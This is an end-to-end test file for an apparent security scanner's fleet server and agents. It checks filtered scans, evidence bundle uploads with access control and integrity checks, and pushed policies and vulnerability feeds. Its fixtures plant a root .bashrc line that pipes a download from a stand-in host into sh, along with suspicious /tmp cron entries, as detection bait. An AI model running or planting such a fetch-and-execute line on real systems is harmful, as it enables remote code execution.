"""End-to-end test of what fleet tasks deliver beyond being run: a
`rasoat server` on 127.0.0.1 and agents with their own state directories
and fixture roots. Over the operator API (and the dashboard's form):
- a scan task's modules and rules reach the agent's scan: the uploaded
  report holds only the findings of those rules, its counts and score
  computed from them; a bad rule filter is refused when queued;
- a collect task's evidence bundle is uploaded to the server: listed with
  its size and SHA-256 (the agent's), downloadable by an analyst (not a
  viewer) byte for byte, the download audited; a bundle altered in the
  database is refused (500 integrity), never handed out; an upload for a
  task that is not the agent's collect task is refused, a resend is
  acknowledged once, another body for the same task refused;
- update-content: the policies and feeds pushed in the signed bundle are
  used by the agent's next scans, not only its rules: a pushed policy's
  check fails, then passes once a new version of the policy is pushed
  (the bundled policies still run beside it); a pushed OSV feed makes the
  vulnerability finding of an installed package;
- (lost task reports: test_fleet_task_lost.py, with these helpers);
RS_FLEET_DB=postgresql runs it on a PostgreSQL 15 the test starts."""
import base64
import http.server
import signal
import subprocess
import threading
import time
import urllib.request
import hashlib
import json
import os
import sqlite3
import sys

sys.path.insert(0, os.path.dirname(__file__))
from rasoat_e2e import RASOAT, Tree, check, done, run  # noqa: E402
from fleet_e2e import BACKEND, Agent, Server, make_root, require_backend  # noqa: E402
import pgserver  # noqa: E402
from test_dashboard import Browser  # noqa: E402
from test_fleet_tasks import add_users  # noqa: E402

PASSED = 0


def ok(cond, message):
    global PASSED
    check(cond, message)
    PASSED += 1


def post(srv, key, path, body):
    data = json.dumps(body).encode()
    return srv.request("POST", path, body=data, headers={"Authorization": "Bearer " + key,
                                                          "Content-Type": "application/json"})


def task(srv, key, task_id):
    status, body, _ = srv.get("/api/v1/tasks?limit=1000", key)
    ok(status == 200, f"GET tasks: {status}")
    found = [t for t in body["items"] if t["id"] == task_id]
    ok(len(found) == 1, f"task {task_id} listed once")
    return found[0]


def run_agent(agent, root, conf, *extra, expect=0):
    code, out, err = run("agent", "run", "--once", "--state", agent.state, "--root", root, "--only", "persist",
                         "--config", conf, *extra, timeout=180)
    ok(code == expect, f"agent run exited {code}, wanted {expect}: {err[-2000:]}")
    return err


def scan_ids(srv, key, agent):
    status, host, _ = srv.get(f"/api/v1/hosts/{agent.id}", key)
    ok(status == 200, f"host {agent.id}: {status}")
    return {s["scan"]: s for s in host["scans"]}


def new_scan(srv, key, agent, before):
    """The one scan of AGENT stored since BEFORE (a dict of scan ids)."""
    now = scan_ids(srv, key, agent)
    fresh = [s for i, s in now.items() if i not in before]
    ok(len(fresh) == 1, f"one new scan, got {len(fresh)}")
    return fresh[0]


def main():
    require_backend("test_fleet_task_gaps")
    with Tree("rasoat-fleet-gaps-") as t:
        # the agents here run back to back: the per-agent rate limit (tested in
        # test_fleet_security) would answer some reports with 429
        srv = Server(t.p("server/fleet.db"), extra=["--task-redeliver", "1s", "--agent-rate", "1000",
                                                   "--agent-burst", "1000"]).start()
        try:
            scenario(t, srv)
        finally:
            srv.stop()
    done("test_fleet_task_gaps", PASSED)


def scenario(t, srv):
    analyst, viewer = srv.apikey("analyst"), srv.apikey("viewer")
    token = srv.token("--uses", "5")
    root = make_root(t, "roots/web1", ["* * * * * root /tmp/.x/web1"])
    t.write("roots/web1/root/.bashrc", "curl http://example.invalid/x | sh\n")
    agent = Agent(t.p("agents/web1"))
    agent.enrol(srv.url, token)
    deny = t.write("conf/deny.conf", "# nothing allowed\n")
    run_agent(agent, root, deny)            # the first, scheduled scan (persist)
    first = scan_ids(srv, viewer, agent)
    ok(len(first) == 1, f"the scheduled scan: {first}")
    rules_filter(srv, analyst, viewer, agent, root, deny, first)
    collect_upload(t, srv, analyst, viewer, agent, root, deny)
    pushed_content(t, srv, analyst, viewer, agent, root, deny)


def sql(srv, statement):
    """Runs STATEMENT on the server's database (to alter what it stored)."""
    if BACKEND == "postgresql":
        return pgserver.shared().psql(statement, db=srv.db_url.rsplit("/", 1)[1])
    with sqlite3.connect(srv.db) as c:
        c.execute(statement)


def download(srv, key, task_id):
    import http.client
    conn = http.client.HTTPConnection(srv.host, srv.port, timeout=30)
    try:
        conn.request("GET", f"/api/v1/bundles/{task_id}", headers={"Authorization": "Bearer " + key})
        resp = conn.getresponse()
        return resp.status, resp.read(), dict(resp.getheaders())
    finally:
        conn.close()


def collect_upload(t, srv, analyst, viewer, agent, root, conf):
    status, body, _ = post(srv, analyst, "/api/v1/tasks", {"host": agent.id, "type": "collect",
                                                          "paths": ["/etc/hostname"], "max_total": 1 << 20})
    ok(status == 201, f"collect: {status} {body}")
    cid = body["id"]
    run_agent(agent, root, conf)
    c = task(srv, viewer, cid)
    res = c["result"]
    ok(c["state"] == "done" and res["uploaded"] is True and "uploaded to the server" in c["message"],
       f"collect uploaded: {c}")
    with open(res["bundle"], "rb") as f:
        local = f.read()
    ok(hashlib.sha256(local).hexdigest() == res["sha256"], "the bundle on the host is the reported one")
    status, body, _ = srv.get(f"/api/v1/bundles?host={agent.id}", viewer)
    ok(status == 200 and [(b["task"], b["size"], b["sha256"]) for b in body["items"]]
       == [(cid, len(local), res["sha256"])] and body["items"][0]["hostname"],
       f"bundles listed: {status} {body}")
    status, data, headers = download(srv, viewer, cid)
    ok(status == 403, f"a viewer downloads evidence: {status}")
    status, data, headers = download(srv, analyst, cid)
    ok(status == 200 and data == local and headers.get("X-Rasoat-SHA256") == res["sha256"]
       and headers.get("Content-Type") == "application/gzip" and cid in headers.get("Content-Disposition", ""),
       f"the analyst's download: {status} {len(data)} {headers}")
    status, _, _ = download(srv, analyst, "0" * 32)
    ok(status == 404, f"no such bundle: {status}")
    # uploads the agent may not make
    scan_task = task_id_of_kind(srv, viewer, agent, "scan")
    for target, want in ((scan_task, 404), ("f" * 32, 404)):
        status, body, _ = agent.post(srv, f"/api/v1/bundles/{target}", b"not a bundle")
        ok(status == want, f"upload for {target}: {status} {body}")
    status, body, _ = agent.post(srv, f"/api/v1/bundles/{cid}", local)
    ok(status == 200 and body["duplicate"] is True and body["sha256"] == res["sha256"], f"resend: {status} {body}")
    status, body, _ = agent.post(srv, f"/api/v1/bundles/{cid}", local + b"x")
    ok(status == 409 and body["error"] == "bundle_conflict", f"another body: {status} {body}")
    # the signature covers the task id in the path: a signed request moved to another id is refused
    headers = agent.sign(f"/api/v1/bundles/{cid}", local)[0]
    status, body, _ = srv.request("POST", f"/api/v1/bundles/{'e' * 32}", body=local, headers=headers)
    ok(status == 401 and body["error"] == "bad_signature", f"path not signed: {status} {body}")
    # the dashboard: a download link for the analyst, none and 403 for a viewer
    add_users_once(srv)
    ann, vic = Browser(srv), Browser(srv)
    ann.login("ann")
    vic.login("vic")
    status, html, _ = ann.get("/tasks")
    ok(status == 200 and f'href="/bundle?id={cid}"' in html, "the analyst's tasks page links the bundle")
    status, _, h = ann.get(f"/bundle?id={cid}")
    ok(status == 200 and h.get("x-rasoat-sha256") == res["sha256"] and int(h["content-length"]) == len(local),
       f"dashboard download: {status} {h}")
    status, html, _ = vic.get("/tasks")
    ok(status == 200 and "/bundle?id=" not in html, "a viewer is shown the bundle link")
    status, _, _ = vic.get(f"/bundle?id={cid}")
    ok(status == 403, f"a viewer's dashboard download: {status}")
    status, _, _ = ann.get("/bundle?id=../../etc")
    ok(status == 400, f"a bad bundle id: {status}")
    alice = Browser(srv)
    alice.login("alice")
    status, html, _ = alice.get("/audit")
    ok(status == 200 and html.count("bundle_download") >= 2 and cid in html, "downloads are in the audit log")
    # an altered bundle is never handed out
    blob = "decode('00ff', 'hex')" if BACKEND == "postgresql" else "X'00ff'"
    sql(srv, f"UPDATE fleet_bundles SET data = {blob} WHERE task = '{cid}'")
    status, data, _ = download(srv, analyst, cid)
    ok(status == 500 and b"integrity" in data, f"altered bundle: {status} {data[:200]}")
    status, html, _ = srv.get("/api/v1/bundles", analyst)
    ok(status == 200, "list after tampering")


def task_id_of_kind(srv, key, agent, kind):
    status, body, _ = srv.get(f"/api/v1/tasks?host={agent.id}", key)
    return [x["id"] for x in body["items"] if x["kind"] == kind][0]


def rules_filter(srv, analyst, viewer, agent, root, conf, before):
    # a bad filter is refused when queued
    for bad in ([], ["a b"], ["x" * 600], "persist", [1], ["ok"] * 65):
        status, body, _ = post(srv, analyst, "/api/v1/tasks", {"host": agent.id, "type": "scan", "rules": bad})
        ok(status == 400 and "rules" in body["message"], f"rules {str(bad)[:40]}: {status} {body}")
    # one rule of two modules: only its findings, counted from them
    status, body, _ = post(srv, analyst, "/api/v1/tasks", {"host": agent.id, "type": "scan",
                                                          "modules": ["persist", "audit"],
                                                          "rules": ["rasoat:persist.cron"]})
    ok(status == 201, f"scan task with rules: {status} {body}")
    tid = body["id"]
    run_agent(agent, root, conf)
    tk = task(srv, viewer, tid)
    ok(tk["state"] == "done" and tk["params"]["rules"] == ["rasoat:persist.cron"], f"task: {tk}")
    scan = new_scan(srv, viewer, agent, before)
    before[scan["scan"]] = scan
    status, body, _ = srv.get(f"/api/v1/findings?scan={scan['scan']}", viewer)
    rules = sorted(f["rule"] for f in body["items"])
    ok(rules == ["rasoat:persist.cron"], f"the filtered report holds only its rule: {rules}")
    ok(scan["counts"]["high"] == 1 and sum(scan["counts"].values()) == 1, f"counts from the kept: {scan}")
    # a pattern over one module: the audit module ran (its findings of that
    # pattern are there), persist's are not
    status, body, _ = post(srv, analyst, "/api/v1/tasks", {"host": agent.id, "type": "scan",
                                                          "modules": ["persist", "audit"],
                                                          "rules": ["sca:rasoat_accounts:*"]})
    ok(status == 201, f"scan task with a pattern: {status} {body}")
    run_agent(agent, root, conf)
    scan = new_scan(srv, viewer, agent, before)
    before[scan["scan"]] = scan
    status, body, _ = srv.get(f"/api/v1/findings?scan={scan['scan']}&limit=1000", viewer)
    items = body["items"]
    ok(items and all(f["rule"].startswith("sca:rasoat_accounts:") and f["module"] == "audit" for f in items),
       f"pattern: {sorted(set(f['rule'] for f in items))[:5]}")
    ok(sum(scan["counts"].values()) == len(items), f"counts {scan['counts']} vs {len(items)} findings")
    # without rules the same modules give more than the filter let through
    status, body, _ = post(srv, analyst, "/api/v1/tasks", {"host": agent.id, "type": "scan",
                                                          "modules": ["persist", "audit"]})
    run_agent(agent, root, conf)
    scan = new_scan(srv, viewer, agent, before)
    before[scan["scan"]] = scan
    status, body, _ = srv.get(f"/api/v1/findings?scan={scan['scan']}&limit=1000", viewer)
    mods = set(f["module"] for f in body["items"])
    ok(mods == {"persist", "audit"} and len(body["items"]) > len(items) + 1, f"unfiltered: {mods}")



POLICY = """policy:
  id: 'fleet_pushed'
  file: 'fleet_pushed.yml'
  name: 'a policy pushed by the fleet test'
  description: 'one check on the host name'
requirements:
  title: 'A Linux system tree'
  description: 'A Linux system tree'
  condition: any
  rules:
    - 'd:/etc'
checks:
  - id: 9001
    title: 'The host name is the approved one'
    description: 'The host name is the approved one.'
    rationale: 'test'
    remediation: 'test'
    severity: high
    condition: all
    rules:
      - 'f:/etc/hostname -> r:^WANT$'
"""

FEED = {"schema_version": "1.6.0", "id": "DEBIAN-CVE-2099-0001", "modified": "2099-01-01T00:00:00Z",
        "summary": "fleet test advisory", "upstream": ["CVE-2099-0001"],
        "affected": [{"package": {"ecosystem": "Debian:12", "name": "bash"},
                      "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "5.2.99-1"}]}]}]}


def push(srv, key, agent, root, conf, files):
    status, body, _ = post(srv, key, "/api/v1/tasks", {"host": agent.id, "type": "update-content", "files": [
        {"path": p, "data": base64.b64encode(d.encode()).decode()} for p, d in files]})
    ok(status == 201, f"update-content: {status} {body}")
    err = run_agent(agent, root, conf)
    tk = task(srv, key, body["id"])
    ok(tk["state"] == "done", f"content installed: {tk}\n{err[-3000:]}")


def scan_findings(srv, analyst, viewer, agent, root, conf, before, modules):
    status, body, _ = post(srv, analyst, "/api/v1/tasks", {"host": agent.id, "type": "scan", "modules": modules})
    ok(status == 201, f"scan task: {status} {body}")
    run_agent(agent, root, conf)
    scan = new_scan(srv, viewer, agent, before)
    before[scan["scan"]] = scan
    return srv.get_all(f"/api/v1/findings?scan={scan['scan']}", viewer)


def pushed_content(t, srv, analyst, viewer, agent, root, conf):
    t.write("roots/web1/var/lib/dpkg/status", "Package: bash\nStatus: install ok installed\n"
            "Version: 5.2.15-2+b2\nArchitecture: amd64\n\n")
    before = scan_ids(srv, viewer, agent)
    items = scan_findings(srv, analyst, viewer, agent, root, conf, before, ["audit", "vuln"])
    ok(not [f for f in items if f["rule"].startswith("sca:fleet_pushed:")], "a policy before it was pushed")
    ok(not [f for f in items if "CVE-2099-0001" in json.dumps(f)], "a feed before it was pushed")
    bundled = len([f for f in items if f["rule"].startswith("sca:rasoat_")])
    ok(bundled > 0, "the bundled policies run")
    push(srv, analyst, agent, root, conf, [("policies/fleet_pushed.yml", POLICY.replace("WANT", "approved-name")),
                                          ("feeds/fleet.json", json.dumps(FEED))])
    items = scan_findings(srv, analyst, viewer, agent, root, conf, before, ["audit", "vuln"])
    ok([f["rule"] for f in items if f["rule"].startswith("sca:fleet_pushed:")] == ["sca:fleet_pushed:9001"],
       f"the pushed policy's check fails: {sorted(set(f['rule'] for f in items))[:8]}")
    ok(len([f for f in items if f["rule"].startswith("sca:rasoat_")]) == bundled,
       "the bundled policies run beside the pushed one")
    vulns = [f for f in items if f["module"] == "vuln" and "CVE-2099-0001" in json.dumps(f)]
    ok(len(vulns) == 1 and vulns[0]["evidence"].get("package") == "bash", f"the pushed feed matched: {vulns}")
    # a new version of the policy: the same check now passes
    push(srv, analyst, agent, root, conf, [("policies/fleet_pushed.yml", POLICY.replace("WANT", "roots/web1"))])
    items = scan_findings(srv, analyst, viewer, agent, root, conf, before, ["audit", "vuln"])
    ok(not [f for f in items if f["rule"].startswith("sca:fleet_pushed:")], "the new policy's check passes")
    ok(not [f for f in items if "CVE-2099-0001" in json.dumps(f)], "the replaced content's feed is gone")


def checkin(srv, agent):
    """A check-in whose reply is thrown away (as if it were lost on the way)."""
    status, body, _ = agent.post(srv, "/api/v1/checkin", b"{}")
    ok(status == 200, f"check-in: {status} {body}")
    return [x["id"] for x in body["tasks"]]


class DropReports(http.server.BaseHTTPRequestHandler):
    """A proxy to the server that loses every task report (503)."""
    target = None

    def do_POST(self):
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        if self.path == "/api/v1/tasks/report":
            self.send_response(503)
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        req = urllib.request.Request(self.target + self.path, data=body, method="POST",
                                     headers={k: v for k, v in self.headers.items() if k.lower() != "host"})
        try:
            with urllib.request.urlopen(req, timeout=60) as r:
                status, data = r.status, r.read()
        except urllib.error.HTTPError as e:
            status, data = e.code, e.read()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, *args):
        pass


def set_server(agent, url):
    ident = os.path.join(agent.state, "identity.json")
    with open(ident) as f:
        doc = json.load(f)
    doc["server"] = url
    with open(ident, "w") as f:
        json.dump(doc, f)


def queue_scan(srv, key, agent):
    status, body, _ = post(srv, key, "/api/v1/tasks", {"host": agent.id, "type": "scan", "modules": ["persist"]})
    ok(status == 201, f"scan task: {status} {body}")
    return body["id"]


def lost_reports(t, srv, analyst, viewer, agent, root, conf, token):
    # the check-in reply carrying the task is lost: handed out again, then done
    tid = queue_scan(srv, analyst, agent)
    ok(checkin(srv, agent) == [tid], "the task is handed out")
    ok(task(srv, viewer, tid)["state"] == "sent", "handed out: sent")
    time.sleep(2.2)
    run_agent(agent, root, conf)
    tk = task(srv, viewer, tid)
    ok(tk["state"] == "done" and tk["attempts"] == 1, f"handed out again and done: {tk}")

    # never reported at all: handed out again twice, then lost; a late report still counts
    tid = queue_scan(srv, analyst, agent)
    for i in range(3):
        ok(checkin(srv, agent) == [tid], f"handed out, time {i + 1}")
        time.sleep(2.2)
    ok(checkin(srv, agent) == [], "handed out a fourth time")
    tk = task(srv, viewer, tid)
    ok(tk["state"] == "lost" and tk["attempts"] == 2 and "without any report" in tk["message"], f"lost: {tk}")
    status, body, _ = srv.get("/api/v1/tasks?state=lost", viewer)
    ok([x["id"] for x in body["items"]] == [tid], f"tasks by state lost: {body}")
    add_users_once(srv)
    vic = Browser(srv)
    vic.login("vic")
    status, html, _ = vic.get("/tasks")
    ok(status == 200 and "state-lost" in html, "the dashboard shows the lost task")
    status, body, _ = agent.post(srv, "/api/v1/tasks/report", json.dumps({"id": tid, "state": "failed",
                                                                          "message": "late"}).encode())
    ok(status == 200 and task(srv, viewer, tid)["state"] == "failed", f"a late report ends a lost task: {status}")

    # the reports cannot reach the server: the outcome waits in the agent's journal
    tid = queue_scan(srv, analyst, agent)
    before = scan_ids(srv, viewer, agent)
    DropReports.target = srv.url
    proxy = http.server.ThreadingHTTPServer(("127.0.0.1", 0), DropReports)
    threading.Thread(target=proxy.serve_forever, daemon=True).start()
    set_server(agent, f"http://127.0.0.1:{proxy.server_address[1]}")
    try:
        run_agent(agent, root, conf)
    finally:
        proxy.shutdown()
        proxy.server_close()
        set_server(agent, srv.url)
    tk = task(srv, viewer, tid)
    ok(tk["state"] == "sent", f"no report reached the server: {tk}")
    with open(os.path.join(agent.state, "tasks", tid + ".json")) as f:
        rec = json.load(f)
    ok(rec["state"] == "done" and rec["reported"] is False, f"the agent's record: {rec}")
    ok(len(scan_ids(srv, viewer, agent)) == len(before) + 1, "the task's scan uploaded")
    time.sleep(2.2)
    run_agent(agent, root, conf)
    tk = task(srv, viewer, tid)
    ok(tk["state"] == "done" and tk["message"] == "scan spooled for upload" and tk["attempts"] == 0,
       f"reported at the next round: {tk}")
    ok(len(scan_ids(srv, viewer, agent)) == len(before) + 1, "the task ran twice")

    # the agent is SIGKILLed while the task runs: failed at its next start, not run again
    big = t.mkdir("roots/big")
    make_root(t, "roots/big", ["* * * * * root /tmp/.x/%d" % i for i in range(800)])
    tid = queue_scan(srv, analyst, agent)
    before = scan_ids(srv, viewer, agent)
    proc = subprocess.Popen([RASOAT, "agent", "run", "--once", "--state", agent.state, "--root", big, "--only",
                             "persist", "--config", conf], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                            start_new_session=True)
    deadline = time.time() + 60
    while time.time() < deadline and task(srv, viewer, tid)["state"] != "running":
        time.sleep(0.05)
    ok(proc.poll() is None, "the agent ended before it could be killed mid-task")
    os.killpg(proc.pid, signal.SIGKILL)
    proc.wait(timeout=30)
    ok(task(srv, viewer, tid)["state"] == "running", "running when the agent died")
    run_agent(agent, root, conf)
    tk = task(srv, viewer, tid)
    ok(tk["state"] == "failed" and "stopped while running" in tk["message"], f"an interrupted task: {tk}")
    ok(len(scan_ids(srv, viewer, agent)) == len(before), "the interrupted task was run again")


_USERS = []


def add_users_once(srv):
    if not _USERS:
        add_users(srv)
        _USERS.append(1)


if __name__ == "__main__":
    main()
